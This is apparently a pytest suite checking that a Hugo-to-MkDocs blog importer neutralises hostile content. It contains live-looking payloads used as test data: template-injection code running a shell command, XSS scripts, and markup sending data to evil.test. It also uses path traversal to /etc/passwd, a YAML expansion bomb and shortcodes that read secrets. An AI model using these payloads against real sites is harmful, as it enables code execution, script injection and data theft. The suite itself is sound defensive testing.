"""Nobody gets in: what a hostile blog can say runs nothing, reads nothing outside of it, and stops no other page."""

import json
import re
from pathlib import Path

import pytest
import yaml
from hugo_sites import CONFIG, bring, build, empty_repository, post, site
from lxml import html

from blog_code.hugo.clean import what_acts
from blog_code.hugo.importing import Report
from blog_code.hugo.problems import Usage

SECRET = "what-nobody-may-read"
CODE = "{{ cycler.__init__.__globals__.os.popen('id > RAN').read() }}"
SCRIPT = "<script>fetch('https://evil.test/')</script>"
DRAWING = '<svg xmlns="http://www.w3.org/2000/svg"><circle r="1"/>{}</svg>'
UP = "../" * 12
BLOG: dict[str, str | bytes] = {
    "content/posts/jinja.md": post(f"```\n{{{{ a }}}}\n{{%+ endraw %}}{CODE}{{% raw %}}\n```\n\n<!-- {CODE} -->\n\n\ue000{CODE}\ue001 ![x]({CODE})\n"),
    "content/posts/value.md": post("\ufdd0% x %\ufdd0 {<b></b>{= a.b }} and {\\{= a.b }} and `{{= a.b }}`\n\n| {{= a.b }} |\n|---|\n| {{= a.b }} |\n\n[{{= a.b }}]({{= a.b }} \"{{= a.b }}\")\n"),
    "content/posts/title.md": json.dumps({"title": f"T {CODE} {SCRIPT}", "date": "2024-01-01", "tags": [f"t {SCRIPT}"], "description": SCRIPT, "author": SCRIPT, "x": CODE}) + "\nx\n",
    "content/posts/outside.md": post(f"[k]({UP}etc/passwd) ![k]({UP}etc/passwd) [d](%2e%2e/%2e%2e/%2e%2e/secret.txt) [s](../../../secret.txt)\n\n{{{{< figure src=\"{UP}etc/passwd\" >}}}}\n\n<a href=\"/../secret.txt\">s</a> [g](/.git/config)\n", f"cover: {{image: {UP}etc/passwd}}\n"),
    "content/posts/raw.md": post(f"{SCRIPT}\n\n<meta http-equiv=refresh content=0;url=//evil.test>\n\n<form action=//evil.test><input type=password></form>\n\n<link rel=preconnect href=//evil.test>\n\n<base href=//evil.test>\n\n<iframe srcdoc='{SCRIPT}'></iframe>\n\n<p style='background:url(//evil.test)' onclick=alert(1)>p</p>\n\n<object data=//evil.test></object>\n\n<svg onload=alert(1)><script>alert(1)</script></svg>\n\n<math><mtext><img src onerror=alert(1)></math>\n"),
    "content/posts/links.md": post("[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](data:text/html,x) <a href=' java&#x09;script:alert(1)'>d</a> [e](vbscript:x)\n\n## H {#h onclick=alert(1)}\n\n{{< param evil >}}\n", f"evil: {json.dumps(SCRIPT)}\n"),
    "content/posts/maths.md": post("\\(x \\text{<script>alert(1)</script>}\\) and $$ \\href{javascript:alert(1)}{x} $$\n", "math: true\n"),
    "content/posts/html/index.md": post("[demo](demo.html) [n](n.mkd) [m](.meta.yml) ![s](s.svg) ![t](t.svg) [j](x.js)\n"),
    "content/posts/html/demo.html": SCRIPT,
    "content/posts/html/n.mkd": CODE,
    "content/posts/html/.meta.yml": "template: x",
    "content/posts/html/s.svg": DRAWING.format(SCRIPT),
    "content/posts/html/t.svg": DRAWING.format(""),
    "content/posts/html/x.js": "alert(1)",
    "static/posts/evil.md": CODE,
    "static/posts/.meta.yml": "template: x",
    "static/assets/site.js": "alert(1)",
    "content/posts/static.md": post("[e](/posts/evil.md) [m](/posts/.meta.yml) [s](/assets/site.js) ![j](/posts/.meta.yml)\n"),
    "content/posts/alias.md": post("x\n", "aliases: ['/assets/site.js', '/about.md', \"/a\\0b/\", '/index.html', '/sitemap.xml', '/posts/alias/index.html', \"/n\\ne/\", \"/e\\esc/\", '/\"><script>x/', '/../../up/', '/ok/', '/" + "x" * 300 + "/']\n"),
    "content/posts/deep.md": "---\ntitle: x\na: " + "[" * 2000 + "]" * 2000 + "\n---\nx\n",
    "content/posts/deep-toml.md": "+++\ntitle = 'x'\na = " + "[" * 2000 + "]" * 2000 + "\n+++\nx\n",
    "content/posts/deep-json.md": '{"title": "x", "a": ' + "[" * 2000 + "]" * 2000 + "}\nx\n",
    "content/posts/digits.md": "+++\ntitle = 'x'\na = " + "9" * 5000 + "\n+++\nx\n",
    "content/posts/bomb.md": "---\ntitle: x\na: &a [x,x,x,x,x,x,x,x,x,x]\n" + "".join(f"{b}: &{b} [{','.join(f'*{a}' for _ in range(10))}]\n" for a, b in zip("abcdefgh", "bcdefghi", strict=True)) + "---\nx\n",
    "content/posts/latin.md": b"---\ntitle: x\n---\n\xff\xfe\n",
    "content/posts/surrogate.md": '---\ntitle: "\\ud800"\ndate: 2024-01-01\n---\nx\n',
    "content/posts/broken.md": "---\ntitle: [\n---\nx\n",
    "content/posts/slug.md": post("x\n", "slug: '../../../up'\nurl: '/../../up.html'\n"),
    "content/posts/env.md": post("A {{< env >}} and {{< read >}} and {{< web >}}.\n"),
    "layouts/_shortcodes/env.html": '{{ with try (getenv "HUGO_TOKEN") }}{{ with .Err }}none{{ else }}{{ .Value }}{{ end }}{{ end }}',
    "layouts/_shortcodes/read.html": '{{ with try (readFile "../../secret.txt") }}{{ with .Err }}none{{ else }}{{ .Value }}{{ end }}{{ end }}',
    "layouts/_shortcodes/web.html": '{{ with try (resources.GetRemote "http://127.0.0.1:9/") }}{{ with .Err }}none{{ else }}{{ .Value }}{{ end }}{{ end }}',
    "content/posts/long-p.md": post("<p " * 8000 + "\n"),
    "content/posts/long-script.md": post("<script>\n<!--\n" * 1000),
    "content/posts/good.md": post("Good.\n"),
}  # fmt: skip
PUT_AWAY = {"deep", "deep-toml", "deep-json", "digits", "bomb", "latin", "broken"}


@pytest.fixture(scope="module")
def imported(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Report]:
    """Import a blog in which every page is hostile but one, check it and build it."""
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "secret.txt").write_text(SECRET)
    old = site(folder / "old", BLOG)
    (old / "content/posts/b\udcff.md").write_text(post("x\n"), "utf-8")
    root = empty_repository(folder / "new")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("HUGO_TOKEN", SECRET)
        patch.chdir(folder)
        report = bring(old, root)
        build(root)
    return root, report


def test_nothing_outside_the_blog_is_published(imported: tuple[Path, Report]) -> None:
    """Neither files of the machine nor variables of the environment reach the site, whatever path leads to them."""
    text = "".join(path.read_text("utf-8", "replace") for path in imported[0].rglob("*") if path.is_file())

    assert SECRET not in text and "root:x:0:" not in text
    assert not list(imported[0].parent.rglob("RAN"))
    assert (imported[0] / "site/posts/env/index.html").read_text("utf-8").count("none") >= 3


def test_nothing_that_acts_is_copied(imported: tuple[Path, Report]) -> None:
    """No script, no page and no configuration of MkDocs comes in as a file; a drawing does if it only draws."""
    report = imported[1]
    files = {name for entry in report.pages for name in entry.files} - set(report.redirects)

    assert {name for name in files if not re.fullmatch(r"(posts|pages)/[a-z0-9-]+\.md", name)} == {
        "posts/html/t.svg"
    }
    assert (imported[0] / "docs/assets/site.js").read_text("utf-8") != "alert(1)"


def test_no_page_acts_on_its_reader(imported: tuple[Path, Report]) -> None:
    """What came in holds no script, handler, frame, form or style, and no page has more scripts than an empty one."""
    root = imported[0]
    scripts = {
        len(html.parse(str(path)).findall(".//script")) for path in (root / "site/posts").glob("*/index.html")
    }
    usual = len(html.parse(str(root / "site/posts/good/index.html")).findall(".//script"))
    assert max(scripts) <= usual

    for path in (root / "site/posts").glob("*/index.html"):
        page = html.parse(str(path)).getroot()
        article = page.xpath("//article")
        for node in article[0].iter() if article else ():
            assert node.tag not in (
                "script",
                "style",
                "iframe",
                "form",
                "object",
                "embed",
                "base",
                "meta",
                "link",
            ), path
            assert not [key for key in node.attrib if key.startswith("on")], path
            assert not re.match(r"\s*(javascript|vbscript|data):", node.get("href") or "", re.I), path


def test_no_program_is_formed(imported: tuple[Path, Report]) -> None:
    """However it is put together, no imported page holds what would be read as a value or a template."""
    for path in (imported[0] / "docs").glob("p*/*.md"):
        text = path.read_text("utf-8")
        assert "{{=" not in text, path
        assert not re.search("[\ufdd0-\ufdef]", text), path
        yaml.safe_load(text.split("---\n")[1])


def test_bad_pages_are_refused_alone(imported: tuple[Path, Report]) -> None:
    """A page that cannot be read, or would take all memory, is refused with a reason; the others come in."""
    report = imported[1]
    refused = {Path(entry.source).stem: entry for entry in report.refused}

    assert set(refused) >= PUT_AWAY and "good" not in refused
    assert all(entry.reason and entry.line >= 1 and "fault" not in entry.kind for entry in report.refused)
    assert json.loads(report.as_json())


def test_old_addresses_stay_in_their_place(imported: tuple[Path, Report]) -> None:
    """An alias makes a page that leads on, or nothing: no folder with odd signs, no page of somebody else's."""
    made = {name for entry in imported[1].pages if entry.source.endswith("alias.md") for name in entry.files}

    assert made == {"posts/alias.md", "ok/index.html", "up/index.html"}
    assert all(re.fullmatch(r"[\w./~-]+\.html", name) for name in imported[1].redirects)


CONFIGURATIONS = {
    "a mount of a folder outside": '[[module.mounts]]\nsource = "../secret"\ntarget = "content"\n',
    "a mount of an absolute folder": '[[module.mounts]]\nsource = "/etc"\ntarget = "static"\n',
    "a mount of a theme's": 'theme = "t"\n',
    "content elsewhere": 'contentDir = "../secret"\n',
    "content of a language elsewhere": '[languages.en]\ncontentDir = "/etc"\n',
    "static files elsewhere": 'assetDir = "/"\n',
    "layouts elsewhere": 'layoutDir = "../secret"\n',
    "themes elsewhere": 'themesDir = "/tmp"\n',
    "a cache elsewhere": '[caches.images]\ndir = "/tmp"\n',
    "a deep configuration": "a = " + "[" * 2000 + "]" * 2000 + "\n",
    "an address that is none": 'baseURL = "http://[::1"\n',
    "permalinks of a wrong type": "permalinks = [1]\n",
}  # fmt: skip


@pytest.mark.parametrize("name", CONFIGURATIONS)
def test_configuration_reads_nothing_outside(name: str, tmp_path: Path) -> None:
    """What a configuration may name lies in the site, or nothing is imported at all; the reason is named."""
    (tmp_path / "secret").mkdir()
    (tmp_path / "secret" / "a.md").write_text(f"---\ntitle: x\ndate: 2024-01-01\n---\n{SECRET}\n")
    files = {
        "content/posts/a.md": post("x\n"),
        "themes/t/hugo.toml": '[[module.mounts]]\nsource = "../../../secret"\ntarget = "content"\n',
    }
    old = site(
        tmp_path / "old",
        files,
        CONFIGURATIONS[name] + CONFIG.replace('baseURL = "https://old.test/"', "")
        if "baseURL" in CONFIGURATIONS[name]
        else CONFIGURATIONS[name] + CONFIG,
    )
    try:
        report = bring(old, tmp_path)
        assert not report.refused
    except Usage as error:
        assert str(error)
    assert SECRET not in "".join(path.read_text("utf-8") for path in (tmp_path / "docs").rglob("*.md"))
    assert ("elsewhere" not in name and "mount" not in name) or not (tmp_path / "docs").exists()


@pytest.mark.parametrize(
    "link", ["content/posts/x.md", "content/posts/trip", "static", "themes/t", "hugo.yaml", "content/loop"]
)
def test_links_that_lead_out_end_the_import(link: str, tmp_path: Path) -> None:
    """A symbolic link out of the site is named, and nothing is imported; so is one that leads round and round."""
    (tmp_path / "secret").mkdir()
    old = site(tmp_path / "old", {"content/posts/a.md": post("x\n")})
    (old / link).parent.mkdir(parents=True, exist_ok=True)
    (old / link).symlink_to(old / "content" if "loop" in link else tmp_path / "secret")
    if link == "static":  # which is read only where a page asks for it
        (tmp_path / "secret" / "s.png").write_text(SECRET)
        (old / "content/posts/a.md").write_text(post("![s](/s.png)\n"))
        bring(old, tmp_path)
        assert not list((tmp_path / "docs").rglob("*.png"))
        return
    with pytest.raises(Usage, match="link"):
        bring(old, tmp_path)
    assert not (tmp_path / "docs").exists()


ACTS = {
    "<p>a <b>b</b> <br> <!-- more --></p>": "",
    '<a href="https://x.test/?a=1&amp;b=2" title="t">x</a>': "",
    "<script>x</script>": "<script>",
    "<p onclick=x>": "<p onclick=x>",
    '<p onclick="x">': "<p onclick>",
    '<a href="java&#x0A;script:x">': "<a href=java",
    '<img src="x" alt="a"b">': '<img src="x" alt="a"b">',
    '<p style="text-align: left">': "",
    '<p style="color: red">': "<p style>",
    "<!-- --><script>": "<script>",
    "<!-- a --!><script>": "<!-- a --!>",
    "<svg><style><img src>": "<svg>",
    "a < b": "< b",
}  # fmt: skip


@pytest.mark.parametrize("text", ACTS)
def test_what_acts_is_found_in_rendered_html(text: str) -> None:
    """The last look at a page knows what is allowed, and nothing else passes, however it is spelt."""
    found = what_acts(text)
    assert found.startswith(ACTS[text]) and bool(found) == bool(ACTS[text])
